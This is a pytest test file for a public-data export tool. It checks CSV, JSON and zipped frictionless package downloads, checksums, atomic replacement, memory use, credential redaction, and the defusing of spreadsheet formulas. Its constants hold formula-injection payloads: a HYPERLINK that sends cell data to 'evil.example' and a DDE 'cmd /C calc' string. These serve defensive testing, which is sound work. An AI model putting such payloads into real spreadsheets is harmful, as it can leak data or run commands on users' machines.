"""Full downloads (shafaf.exports) from a real published shafaf.db.

Everything is real: the two-agency registry of conftest is harvested and
published, rows are added with sqlite3, the zipped packages are checked with
frictionless (its Python API and, when installed, its command line), and a
crash is a SIGKILL of a real exporting process.
"""

from __future__ import annotations

import csv
import dataclasses
import hashlib
import io
import json
import shutil
import signal
import sqlite3
import subprocess
import sys
import textwrap
import time
import tracemalloc
import zipfile
from pathlib import Path

import frictionless
import pytest

from shafaf.config import registry as registry_module
from shafaf.core.datadir import DataDir
from shafaf.harvest.runner import harvest
from shafaf.publish.exports import ExportError, Manifest, package_schema, read_manifest, write_exports
from shafaf.publish.spreadsheet import safe_cell
from shafaf.publish.writer import publish
from shafaf.standard import tables

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"click")'
DDE = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(A1)"
FAITHFUL = 'خط اول\nline "two", }, {"x": 1} ی ي ك ک ۱۲۳  '  # quotes, a line break, JSON-like text, spaces
SECRET = "s3cretpass"
APIKEY = "s3cretkey"

# An agency whose source URL carries credentials: publish lists it, so it gets a package with its sources.
GAMMA = f"""\
  - id: gamma
    name_fa: سازمان ج
    name_en: Gamma Organization
    sources:
      - dataset: services
        kind: http
        url: https://user:{SECRET}@data.gamma.example/services.csv?apikey={APIKEY}&page=1
"""


def _published(root: Path) -> tuple[registry_module.Registry, DataDir]:
    """A real shafaf.db: alpha and beta harvested and published, gamma listed, plus rows that attack spreadsheets."""
    from conftest import write_registry

    reg = registry_module.load(write_registry(root / "src", extra=GAMMA))
    data = DataDir(root / "var")
    agencies = [reg.agency("alpha"), reg.agency("beta")]
    harvest(agencies, registry=reg, data=data)
    assert all(r.ok for r in publish(agencies, registry=reg, data=data))
    with sqlite3.connect(data.public_db) as conn:
        run_id = conn.execute("SELECT run_id FROM services WHERE agency_id = 'alpha' LIMIT 1").fetchone()[0]
        conn.executemany(
            "INSERT INTO services (agency_id, service_id, name_fa, name_en, description, category, smart, fee, run_id, withdrawn)"
            " VALUES ('alpha', ?, ?, ?, ?, ?, ?, ?, ?, 0)",
            [
                ("S90", DDE, HYPERLINK, AT_SUM, "\tTAB", 1, 0, run_id),
                ("S91", "\rCR", "-not a number", FAITHFUL, "+98 21 5555 0000", 0, 7, run_id),
            ],
        )
        conn.execute(
            "INSERT INTO indicators (agency_id, indicator, window, value, numerator, unit)"
            " VALUES ('alpha', 'net_change', 'year', -5, -0.25, '-5')"
        )
    return reg, data


@dataclasses.dataclass
class Site:
    reg: registry_module.Registry
    data: DataDir
    manifest: Manifest

    @property
    def db(self) -> Path:
        return self.data.public_db


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Site:
    """One published and exported site for the tests that only read it."""
    reg, data = _published(tmp_path_factory.mktemp("exports"))
    return Site(reg, data, write_exports(data.public_db, data.downloads, registry=reg))


@pytest.fixture
def fresh(tmp_path: Path) -> tuple[registry_module.Registry, DataDir]:
    """A published site of its own (not exported yet), for a test that changes it."""
    return _published(tmp_path)


def _export(data: DataDir, reg: registry_module.Registry):
    return write_exports(data.public_db, data.downloads, registry=reg)


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def _sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def test_every_public_table_is_exported_with_its_rows(site):
    published, data = site.db, site.data
    manifest = site.manifest
    out = data.downloads / "tables"
    with sqlite3.connect(published) as conn:
        for table in tables.PUBLIC_TABLES:
            count = conn.execute(f"SELECT count(*) FROM [{table}]").fetchone()[0]
            header = list(tables.columns(table))
            for name in (f"{table}.csv", f"{table}.safe.csv"):
                rows = _rows(out / name)
                assert rows[0] == header and len(rows) - 1 == count, name
            records = json.loads((out / f"{table}.json").read_text(encoding="utf-8"))
            assert len(records) == count and all(list(r) == header for r in records)
    listed = {f.file: f for f in manifest.files}
    assert {f"tables/{t}{s}" for t in tables.PUBLIC_TABLES for s in (".csv", ".safe.csv", ".json")} <= set(listed)
    assert {f"agencies/{a}.zip" for a in ("alpha", "beta", "gamma")} <= set(listed)
    assert listed["agencies/alpha.zip"].agency == "alpha" and listed["tables/services.csv"].table == "services"
    # Nothing but public tables, agencies' packages and the two listings, beside the hidden per-agency parts.
    written = {str(p.relative_to(data.downloads)) for p in data.downloads.rglob("*") if p.is_file()}
    assert {w for w in written if not w.startswith(".parts/")} == set(listed) | {"manifest.json"}
    assert read_manifest(data.downloads)["files"] == [dict(vars(f)) for f in manifest.files]


def test_checksums_and_manifest_match_the_files(site):
    data = site.data
    manifest = site.manifest
    lines = (data.downloads / "SHA256SUMS").read_text(encoding="utf-8").splitlines()
    assert len(lines) == len(manifest.files) - 1  # every file but SHA256SUMS itself
    for line in lines:
        digest, name = line.split("  ", 1)
        assert _sha256(data.downloads / name) == digest, name
    for entry in read_manifest(data.downloads)["files"]:
        path = data.downloads / entry["file"]
        assert path.stat().st_size == entry["bytes"] and _sha256(path) == entry["sha256"]
        assert entry["generated_at"] == manifest.generated_at
    if shutil.which("sha256sum"):
        subprocess.run(["sha256sum", "--check", "--quiet", "SHA256SUMS"], cwd=data.downloads, check=True)


def test_raw_csv_is_byte_faithful(site):
    published, data = site.db, site.data
    raw = (data.downloads / "tables" / "services.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf") and raw.endswith(b"\r\n")
    names = list(tables.columns("services"))
    with sqlite3.connect(published) as conn:
        # Agency by agency (the files are joined from per-agency parts), each agency's rows as published.
        stored = conn.execute(
            f"SELECT {', '.join(names)} FROM services ORDER BY agency_id IS NULL, agency_id, rowid"
        ).fetchall()
    expected = io.StringIO()
    csv.writer(expected, lineterminator="\r\n").writerows([names, *stored])
    assert raw == expected.getvalue().encode("utf-8")
    parsed = _rows(data.downloads / "tables" / "services.csv")[1:]
    assert parsed == [["" if v is None else str(v) for v in row] for row in stored]
    by_id = {row[1]: row for row in parsed}
    assert by_id["S90"][3] == HYPERLINK and by_id["S90"][2] == DDE and by_id["S91"][4] == FAITHFUL
    assert by_id["S91"][2] == "\rCR"


def test_safe_csv_defuses_formulas_and_leaves_numbers(site):
    data = site.data
    out = data.downloads / "tables"
    header, *rows = _rows(out / "services.safe.csv")
    by_id = {row[1]: dict(zip(header, row)) for row in rows}
    assert by_id["S90"]["name_en"] == "'" + HYPERLINK
    assert by_id["S90"]["name_fa"] == "'" + DDE
    assert by_id["S90"]["description"] == "'" + AT_SUM
    assert by_id["S90"]["category"] == "'\tTAB"
    assert by_id["S91"]["name_fa"] == "'\rCR"
    assert by_id["S91"]["name_en"] == "'-not a number"
    assert by_id["S91"]["category"] == "'+98 21 5555 0000"  # a phone in a TEXT column is prefixed (OWASP)
    assert by_id["S91"]["description"] == FAITHFUL  # nothing else changes
    assert by_id["S1"] == dict(zip(header, next(r for r in _rows(out / "services.csv")[1:] if r[1] == "S1")))
    header, *rows = _rows(out / "indicators.safe.csv")
    row = next(r for r in (dict(zip(header, r)) for r in rows) if r["indicator"] == "net_change")
    assert (row["value"], row["numerator"], row["unit"]) == ("-5.0", "-0.25", "'-5")  # REAL unchanged, TEXT prefixed
    # The rule the export runs in Python on flagged rows.
    assert safe_cell(-5, numeric=True) == -5 and safe_cell("-5", numeric=True) == "-5"
    assert safe_cell("-5") == "'-5" and safe_cell("") == "" and safe_cell(None) is None
    assert safe_cell("-inf", numeric=True) == "'-inf"


def test_json_is_an_array_of_the_stored_values(site):
    data = site.data
    records = json.loads((data.downloads / "tables" / "services.json").read_text(encoding="utf-8"))
    s90 = next(r for r in records if r["service_id"] == "S90")
    assert s90["name_en"] == HYPERLINK and s90["fee"] == 0 and s90["standard_days"] is None and s90["smart"] == 1
    assert next(r for r in records if r["service_id"] == "S91")["description"] == FAITHFUL
    empty = (data.downloads / "tables" / "activities.json").read_text(encoding="utf-8")
    assert json.loads(empty) == []


def _unzip(data: DataDir, agency: str, into: Path) -> Path:
    with zipfile.ZipFile(data.downloads / "agencies" / f"{agency}.zip") as zf:
        assert sorted(zf.namelist()) == sorted(["datapackage.json", *(f"{t}.csv" for t in tables.DATASET_TABLES)])
        zf.extractall(into)
    return into / "datapackage.json"


@pytest.mark.parametrize("agency", ["alpha", "beta", "gamma"])
def test_agency_package_validates_with_frictionless(site, tmp_path, agency):
    data = site.data
    descriptor = _unzip(data, agency, tmp_path / agency)
    report = frictionless.validate(descriptor)
    assert report.valid, report.flatten(["rowNumber", "fieldName", "type", "note"])
    if agency == "alpha" and shutil.which("frictionless"):  # the command line too (slow to start: once)
        cli = subprocess.run(["frictionless", "validate", str(descriptor)], capture_output=True, text=True, timeout=120)
        assert cli.returncode == 0, cli.stdout + cli.stderr


def test_agency_package_holds_exactly_its_published_rows(site, tmp_path):
    published, data = site.db, site.data
    descriptor = json.loads(_unzip(data, "alpha", tmp_path / "alpha").read_text(encoding="utf-8"))
    assert descriptor["name"] == "alpha"
    assert descriptor["licenses"] == [
        {"name": "CC-BY-4.0", "title": "CC BY 4.0", "path": "https://creativecommons.org/licenses/by/4.0/"}
    ]
    assert [s["title"] for s in descriptor["sources"]] == [
        "services (file source services): file alpha_services.csv",
        "service_performance (file source service_performance): file alpha_performance.csv",
    ]
    resources = {r["name"]: r for r in descriptor["resources"]}
    with sqlite3.connect(published) as conn:
        for kind in tables.DATASET_TABLES:
            header, *rows = _rows(tmp_path / "alpha" / f"{kind}.csv")
            count = conn.execute(f"SELECT count(*) FROM [{kind}] WHERE agency_id = 'alpha'").fetchone()[0]
            assert len(rows) == count == resources[kind]["shafaf"]["rows"]
            assert all(r[0] == "alpha" for r in rows)
            # The standard's fields in its order, then the portal's columns, each described in the schema.
            assert header == list(tables.columns(kind)) == [f["name"] for f in resources[kind]["schema"]["fields"]]
    services = {r[1]: dict(zip(header, r)) for header, *rs in [_rows(tmp_path / "alpha" / "services.csv")] for r in rs}
    assert services["S1"]["smart"] == "true" and services["S2"]["smart"] == "false"  # 0/1 stored, true/false exported
    assert services["S90"]["name_en"] == HYPERLINK  # the package is the raw data
    runs = resources["services"]["shafaf"]["runs"]
    assert runs and runs[0]["run_id"] == services["S1"]["run_id"] and runs[0]["source_id"] == "services"
    schema = {f["name"]: f for f in resources["service_performance"]["schema"]["fields"]}
    assert schema["jalali_year"]["type"] == "integer" and schema["run_id"]["type"] == "string"
    assert package_schema("services", tables.columns("services"))["primaryKey"] == ["agency_id", "service_id"]
    beta = tmp_path / "beta"
    _unzip(data, "beta", beta)
    assert {r[1] for r in _rows(beta / "services.csv")[1:]} == {"B1", "B2"}


def test_no_credentials_in_anything_written(site):
    data = site.data
    blobs = [p.read_bytes() for p in data.downloads.rglob("*") if p.is_file()]
    for zip_path in (data.downloads / "agencies").glob("*.zip"):
        with zipfile.ZipFile(zip_path) as zf:
            blobs += [zf.read(name) for name in zf.namelist()]
    for blob in blobs:
        assert SECRET.encode() not in blob and APIKEY.encode() not in blob
    with zipfile.ZipFile(data.downloads / "agencies" / "gamma.zip") as zf:
        sources = json.loads(zf.read("datapackage.json"))["sources"]
    assert sources[0]["path"] == "https://data.gamma.example/services.csv?apikey=REDACTED&page=1"


def test_a_new_export_replaces_files_atomically_and_removes_stale_ones(fresh):
    reg, data = fresh
    published = data.public_db
    _export(data, reg)
    path = data.downloads / "tables" / "services.csv"
    old = path.read_bytes()
    with path.open("rb") as reader, sqlite3.connect(published) as conn:
        conn.execute("UPDATE services SET name_en = 'Renamed' WHERE service_id = 'S1'")
        conn.execute("DELETE FROM agencies WHERE id = 'gamma'")
        conn.commit()
        second = _export(data, reg)
        assert reader.read() == old  # a reader of the old file keeps the old, complete content
    assert path.read_bytes() != old and b"Renamed" in path.read_bytes()
    assert not (data.downloads / "agencies" / "gamma.zip").exists()
    assert "agencies/gamma.zip" not in {f.file for f in second.files}
    assert not [p for p in (data.root / "exports").glob("*.building")]


def test_export_without_a_published_database_fails_clearly(data, reg):
    with pytest.raises(ExportError, match="no published database"):
        write_exports(data.public_db, data.downloads, registry=reg)
    data.root.mkdir(parents=True)
    sqlite3.connect(data.state_db).execute("CREATE TABLE runs (run_id TEXT)").connection.close()
    with pytest.raises(ExportError, match="not a published Shafaf database"):
        write_exports(data.state_db, data.downloads, registry=reg)
    assert not data.downloads.exists()  # nothing written
    assert [p.name for p in (data.root / "exports").iterdir()] == [".lock"]


KILLED_EXPORT = textwrap.dedent("""\
    import sys
    from pathlib import Path
    from shafaf.config import registry
    from shafaf.publish.exports import write_exports
    write_exports(Path(sys.argv[1]), Path(sys.argv[2]), registry=registry.load(sys.argv[3]))
""")


def _many_duplicates(db: Path, rows: int) -> int:
    """Add ``rows`` rows to possible_duplicates; the table's row count after (publishing may have added some)."""
    with sqlite3.connect(db) as conn:
        conn.executemany(
            "INSERT INTO possible_duplicates VALUES ('alpha', ?, 'نام خدمت', 'beta', ?, 'name', 0.9, 'trigram')",
            ((f"S{i}", f"B{i}") for i in range(rows)),
        )
        return conn.execute("SELECT count(*) FROM possible_duplicates").fetchone()[0]


@pytest.mark.slow
def test_a_killed_export_leaves_the_previous_downloads(fresh):
    reg, data = fresh
    published = data.public_db
    _export(data, reg)
    before = {p: p.read_bytes() for p in data.downloads.rglob("*") if p.is_file()}
    total = _many_duplicates(published, 150_000)
    process = subprocess.Popen(
        [sys.executable, "-c", KILLED_EXPORT, str(data.public_db), str(data.downloads), str(reg.path)]
    )
    try:
        deadline = time.monotonic() + 60
        while not list((data.root / "exports").glob("*.building/tables/possible_duplicates.csv")):
            assert process.poll() is None, "the export finished before it could be killed"
            assert time.monotonic() < deadline
            time.sleep(0.005)
        process.send_signal(signal.SIGKILL)
    finally:
        process.wait()
    after = {p: p.read_bytes() for p in data.downloads.rglob("*") if p.is_file()}
    assert after == before  # every name still holds the previous, complete file
    assert list((data.root / "exports").glob("*.building"))  # what the killed export left is only its new version
    manifest = _export(data, reg)
    assert not list((data.root / "exports").glob("*.building"))
    assert {f.file: f.rows for f in manifest.files}["tables/possible_duplicates.csv"] == total


@pytest.mark.slow
def test_memory_stays_flat_on_a_large_table(fresh):
    reg, data = fresh
    published = data.public_db
    rows = 30_000
    total = _many_duplicates(published, rows)
    with sqlite3.connect(published) as conn:  # and a large dataset table, which also goes into alpha's package
        conn.executemany(
            "INSERT INTO targets (agency_id, indicator, period_start, period_end, target, actual, unit)"
            " VALUES ('alpha', ?, '2025-03-21', '2026-03-20', 100, 90.5, 'percent')",
            ((f"i{i}",) for i in range(rows // 4)),
        )
    tracemalloc.start()
    try:
        manifest = _export(data, reg)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    listed = {f.file: f.rows for f in manifest.files}
    assert listed["tables/possible_duplicates.json"] == total and listed["tables/targets.csv"] == rows // 4
    # Streaming peaks near 2 MB here; holding the rows (one fetchall) peaked at 107 MB with 40k rows.
    assert peak < 6_000_000, f"peak {peak / 1e6:.1f} MB"
